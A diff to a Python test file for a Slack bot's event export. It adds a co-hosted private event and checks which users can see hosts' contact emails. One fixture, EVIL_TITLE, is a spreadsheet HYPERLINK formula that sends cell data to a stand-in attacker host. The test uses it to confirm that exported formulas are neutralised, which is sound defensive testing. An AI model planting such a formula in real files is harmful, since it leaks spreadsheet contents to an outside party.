@@ -14,7 +14,7 @@ from messages import export
 from services import exports
 from storage import event_fields as fields
 from storage import rsvps
-from storage.models import Event
+from storage.models import Event, EventHost
 
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -36,12 +36,14 @@ def seed(database, now) -> dict[str, int]:
                     lead_organizations="@everyone\tand\rfriends", city="-Denver", state="CO"),
         "private": add(database, now, title="Roundtable with Sen. Feinstein’s staff", public=False, email="isanchez@chirla.org"),
         "mine": add(database, now, title="My private visit", created_by="U1", public=False, email="sara@example.org"),
+        "co-hosted": add(database, now, title="Vigil U1 co-hosts", public=False, email="cohost@example.org"),
         "private channel": add(database, now, title="Planning call", channel_id="G1", private_channel=True, public=False,
                                email="g@example.org"),
         "cancelled": add(database, now, title="Cancelled vigil", cancelled_at=now, cancelled_by="U2"),
         "past": add(database, now, title="Last week's rally", starts_in=timedelta(days=-7)),
     }
     with database.session() as session:
+        session.add(EventHost(team_id="T0TEST", event_id=ids["co-hosted"], user_id="U1", added_by="U2", created_at=now))
         evil = session.get(Event, ids["evil"])
         for user in ("U1", "U3", "UADMIN"):
             rsvps.set_rsvp(session, evil, user, True, now)
@@ -70,7 +72,7 @@ def test_export_arrives_in_the_dm_with_every_field_and_neutralised_formulas(bot,
 
     assert list(rows[0]) == list(export.COLUMNS) and {f.name for f in fields.TEXT_FIELDS} <= set(export.COLUMNS)
     by_id = {int(row["id"]): row for row in rows}
-    assert list(by_id) == [ids["past"], ids["evil"], ids["private"], ids["mine"], ids["cancelled"]]  # soonest first
+    assert list(by_id) == [ids["past"], ids["evil"], ids["private"], ids["mine"], ids["co-hosted"], ids["cancelled"]]  # soonest first
     evil = by_id[ids["evil"]]
     # Every cell a spreadsheet would run as a formula starts with an apostrophe, and only those.
     assert evil["title"] == "'" + EVIL_TITLE
@@ -80,10 +82,11 @@ def test_export_arrives_in_the_dm_with_every_field_and_neutralised_formulas(bot,
     assert (evil["start_date"], evil["start_time"], evil["end_time"], evil["timezone"]) == ("2026-11-24", "08:00", "10:00", "America/Denver")
     assert (evil["contact_name"], evil["contact_email"], evil["registered_by"], evil["channel"]) == ("Ezzie Dominguez", "ezzie@example.org", "U2", "C1")
     assert (by_id[ids["cancelled"]]["status"], by_id[ids["past"]]["status"]) == ("cancelled", "past")
-    # A private event's email: not for U1, who neither hosts it nor is an admin; U1's own, yes.
+    # A private event's email: not for U1, who neither hosts it nor is an admin; for its hosts, yes.
     assert (by_id[ids["private"]]["contact_email"], by_id[ids["mine"]]["contact_email"]) == ("", "sara@example.org")
+    assert by_id[ids["co-hosted"]]["contact_email"] == "cohost@example.org"
     assert "isanchez@chirla.org" not in str(rows) and "g@example.org" not in str(rows)  # nor the private channel's event
-    assert message["text"] == export.comment(5, 1)
+    assert message["text"] == export.comment(6, 1)
     assert "left out: only admins and each event's hosts get them" in message["text"]
 
 
@@ -93,9 +96,9 @@ def test_an_admin_gets_every_email_and_the_private_channels_events(bot, slack, d
     slack.wait_for("files.completeUploadExternal")
     message, rows = exported_to(slack, "UADMIN")
     by_id = {int(row["id"]): row for row in rows}
-    assert len(rows) == 6 and by_id[ids["private channel"]]["title"] == "Planning call"
+    assert len(rows) == 7 and by_id[ids["private channel"]]["title"] == "Planning call"
     assert by_id[ids["private"]]["contact_email"] == "isanchez@chirla.org"
-    assert message["text"] == export.comment(6, 0)
+    assert message["text"] == export.comment(7, 0)
 
 
 def test_who_may_see_an_email_is_decided_when_the_export_is_made(slack, services, database, clock):
